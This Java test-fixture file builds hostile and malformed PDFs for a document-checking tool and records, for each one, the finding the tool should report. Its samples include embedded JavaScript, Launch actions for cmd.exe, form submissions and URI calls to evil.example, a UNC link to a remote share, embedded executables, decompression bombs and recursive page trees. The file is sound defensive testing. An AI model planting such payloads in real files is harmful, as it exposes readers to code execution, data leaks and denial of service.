package nl.meekijken.trying;

import static nl.meekijken.trying.HostilePapers.Drawing.DRAWN;
import static nl.meekijken.trying.HostilePapers.Drawing.EITHER;
import static nl.meekijken.trying.HostilePapers.Drawing.NOT_DRAWN;
import static nl.meekijken.trying.HostilePapers.Finding.ACTIVE;
import static nl.meekijken.trying.HostilePapers.Finding.ANY;
import static nl.meekijken.trying.HostilePapers.Finding.LOCKED;
import static nl.meekijken.trying.HostilePapers.Finding.QUIET;
import static nl.meekijken.trying.HostilePapers.Finding.UNREADABLE;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;

import nl.meekijken.trying.HostilePapers.Drawing;
import nl.meekijken.trying.HostilePapers.Finding;
import nl.meekijken.trying.HostilePapers.Hostile;
import nl.meekijken.trying.HostilePapers.Making;

/** PDFs that mean ill, and what calls itself one. */
final class HostilePdfs {

	private static final String SCRIPT = "/S /JavaScript /JS (app.alert\\(1\\))";

	private static final String FILE = "<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>";

	private HostilePdfs() {
	}

	static Stream<Hostile> all() {
		return Stream.of(polyglots(), scripts(), actions(), insides(), locked(), trees(), floods(), broken())
			.flatMap(some -> some);
	}

	private static Stream<Hostile> polyglots() {
		return Stream.of(pdf("a page of HTML before a PDF", behind("<html><script>alert(1)</script>"), ACTIVE, DRAWN),
				pdf("a script before a PDF", behind("/*"), ACTIVE, DRAWN),
				pdf("a zip before a PDF", behind("PK\u0003\u0004\u0014\u0000"), ACTIVE, DRAWN),
				pdf("a GIF before a PDF", behind("GIF89a"), ACTIVE, DRAWN),
				pdf("a PDF before a zip", () -> join(SamplePapers.pdf(1), ascii("PK\u0005\u0006")), QUIET, DRAWN));
	}

	private static Stream<Hostile> scripts() {
		return Stream.of(active("a script at its start", "/OpenAction << " + SCRIPT + " >>", ""),
				active("a script in its tree of names",
						"/Names << /JavaScript << /Names [(a) << " + SCRIPT + " >>] >> >>", ""),
				active("a script with its name written otherwise", "/OpenAction << /S /J#61vaScript /J#53 (a) >>", ""),
				active("a script behind a chain of actions", "/OpenAction << /S /GoTo /Next << " + SCRIPT + " >> >>",
						""),
				active("a script when a page opens", "", "/AA << /O << " + SCRIPT + " >> >>"),
				active("a script at a field",
						"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K << " + SCRIPT + " >> >> >>] >>", ""),
				pdf("a script packed into a stream of objects", SamplePapers::packedScript, ACTIVE, DRAWN));
	}

	private static Stream<Hostile> actions() {
		return Stream.of(active("a program that starts", "", "/Annots [" + link("/S /Launch /F (cmd.exe)") + "]"),
				active("a form that sends itself", "",
						"/Annots [" + link("/S /SubmitForm /F (http://evil.example)") + "]"),
				active("an address that is called at its start", "/OpenAction << /S /URI /URI (http://evil.example) >>",
						""),
				active("a file of another machine", "",
						"/Annots [" + link("/S /GoToR /F (\\\\\\\\evil\\\\a.pdf)") + "]"),
				active("data that are fetched", "", "/Annots [" + link("/S /ImportData /F (a.fdf)") + "]"),
				pdf("a link and a page to open at, as everybody has them", () -> raw("/OpenAction [3 0 R /Fit]",
						"/Annots [" + link("/S /URI /URI (https://example.org)") + "]"), QUIET, DRAWN));
	}

	private static Stream<Hostile> insides() {
		return Stream.of(active("a program inside", "/Names << /EmbeddedFiles << /Names [(a) " + FILE + "] >> >>", ""),
				active("a program pinned to a page", "",
						"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS " + FILE + " >>]"),
				active("a film", "", "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
				active("a form of another kind", "/AcroForm << /Fields [] /XFA (<xdp/>) >>", ""));
	}

	private static Stream<Hostile> locked() {
		return Stream.of(pdf("a locked paper", SamplePapers::lockedPdf, LOCKED, NOT_DRAWN),
				pdf("a paper that only its owner may change", SamplePapers::guardedPdf, QUIET, DRAWN));
	}

	private static Stream<Hostile> trees() {
		return Stream.of(pdf("a tree that leads back to itself", SamplePapers::circularPdf, UNREADABLE, NOT_DRAWN),
				pdf("a tree that says two thousand million pages",
						() -> ascii(new String(raw("", ""), StandardCharsets.ISO_8859_1).replace("/Count 1",
								"/Count 2147483647")),
						ANY, EITHER),
				pdf("a huge page", () -> SamplePapers.pdfWithPageOf(1e9f, 1e9f), QUIET, DRAWN),
				pdf("a page of no size", () -> raw("", "/CropBox [0 0 0 0]"), ANY, EITHER),
				pdf("a page of a size that is no number", () -> raw("", "/MediaBox [0 0 1e99 -1e99]"), ANY, EITHER),
				pdf("forms that draw one another without end", SamplePapers::endlessPdf, ANY, NOT_DRAWN),
				pdf("a form that draws itself", SamplePapers::pdfThatDrawsItself, ANY, EITHER));
	}

	private static Stream<Hostile> floods() {
		return Stream.of(pdf("a font that swells to half a gigabyte", SamplePapers::swellingPdf, ANY, EITHER),
				pdf("a page that swells to half a gigabyte", HostilePdfs::swellingPage, ANY, EITHER),
				pdf("a picture of 60000 by 60000 inside", HostilePdfs::largePicture, ANY, EITHER),
				pdf("a hundred thousand objects", HostilePdfs::manyObjects, QUIET, DRAWN),
				pdf("a chain of a hundred thousand objects", HostilePdfs::longChain, ANY, EITHER),
				pdf("lists in lists, a hundred thousand deep",
						() -> raw("/Deep " + "[".repeat(100_000) + "]".repeat(100_000), ""), ANY, EITHER));
	}

	private static Stream<Hostile> broken() {
		return Stream.of(pdf("a PDF without its table", () -> raw("", ""), QUIET, DRAWN),
				pdf("half a PDF", () -> Arrays.copyOf(SamplePapers.pdf(3), SamplePapers.pdf(3).length / 2), ANY,
						EITHER),
				pdf("a PDF that ends where it starts", SamplePapers::brokenPdf, UNREADABLE, NOT_DRAWN),
				pdf("nothing at all", () -> new byte[0], UNREADABLE, NOT_DRAWN),
				pdf("a page of HTML", () -> ascii("<!doctype html><script>alert(1)</script>"), UNREADABLE, NOT_DRAWN),
				pdf("plain text", () -> ascii("Geachte heer De Vries"), UNREADABLE, NOT_DRAWN),
				pdf("a picture", () -> SamplePapers.picture(20, 20, "png"), UNREADABLE, DRAWN));
	}

	private static Hostile active(String name, String catalog, String page) {
		return pdf(name, () -> raw(catalog, page), ACTIVE, DRAWN);
	}

	private static Hostile pdf(String name, Making making, Finding finding, Drawing drawing) {
		return new Hostile(name, "application/pdf", making, finding, drawing);
	}

	private static String link(String action) {
		return "<< /Subtype /Link /Rect [0 0 9 9] /A << " + action + " >> >>";
	}

	private static Making behind(String start) {
		return () -> join(ascii(start), SamplePapers.pdf(1));
	}

	/**
	 * One page, without a table of where things are: that is made again by the reader.
	 */
	private static byte[] raw(String catalog, String page) {
		return ascii("""
				%%PDF-1.7
				1 0 obj << /Type /Catalog /Pages 2 0 R %s >> endobj
				2 0 obj << /Type /Pages /Count 1 /Kids [3 0 R] >> endobj
				3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >> endobj
				9 0 obj << /Type /EmbeddedFile /Length 4 >> stream
				MZ..
				endstream endobj
				trailer << /Root 1 0 R /Size 10 >>
				%%%%EOF
				""".formatted(catalog, page));
	}

	private static byte[] manyObjects() throws IOException {
		try (var pdf = new PDDocument(); var bytes = new ByteArrayOutputStream()) {
			pdf.addPage(new PDPage());
			var list = new COSArray();
			for (int object = 0; object < 100_000; object++) {
				var one = new COSDictionary();
				one.setInt(COSName.N, object);
				list.add(one);
			}
			pdf.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Many"), list);
			pdf.save(bytes);
			return bytes.toByteArray();
		}
	}

	private static byte[] longChain() {
		var objects = new StringBuilder();
		for (int number = 10; number < 100_010; number++) {
			objects.append(number).append(" 0 obj << /Next ").append(number + 1).append(" 0 R >> endobj\n");
		}
		return ascii(new String(raw("/First 10 0 R", ""), StandardCharsets.ISO_8859_1).replace("trailer",
				objects + "trailer"));
	}

	private static byte[] largePicture() throws IOException {
		return withStream(
				"4 0 obj << /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
						+ "/ColorSpace /DeviceRGB",
				new byte[1000], "/Resources << /XObject << /P 4 0 R >> >> /Contents 5 0 R");
	}

	private static byte[] swellingPage() throws IOException {
		var line = ascii("q ".repeat(512 * 1024));
		return withStream("4 0 obj <<", line, "/Contents 4 0 R");
	}

	/** Content of 512 pieces, each packed to next to nothing. */
	private static byte[] withStream(String head, byte[] piece, String page) throws IOException {
		var packed = new ByteArrayOutputStream();
		try (var out = new DeflaterOutputStream(packed)) {
			for (int part = 0; part < 512; part++) {
				out.write(piece);
			}
		}
		var start = ascii(head + " /Filter /FlateDecode /Length " + packed.size() + " >> stream\n");
		var show = ascii(
				"\nendstream endobj\n5 0 obj << /Length 24 >> stream\n500 0 0 500 0 0 cm /P Do \nendstream endobj\n");
		var plain = new String(raw("", page), StandardCharsets.ISO_8859_1);
		var end = plain.indexOf("trailer");
		return join(ascii(plain.substring(0, end)), start, packed.toByteArray(), show, ascii(plain.substring(end)));
	}

	private static byte[] join(byte[]... parts) {
		var whole = new ByteArrayOutputStream();
		Arrays.stream(parts).forEach(whole::writeBytes);
		return whole.toByteArray();
	}

	private static byte[] ascii(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

}
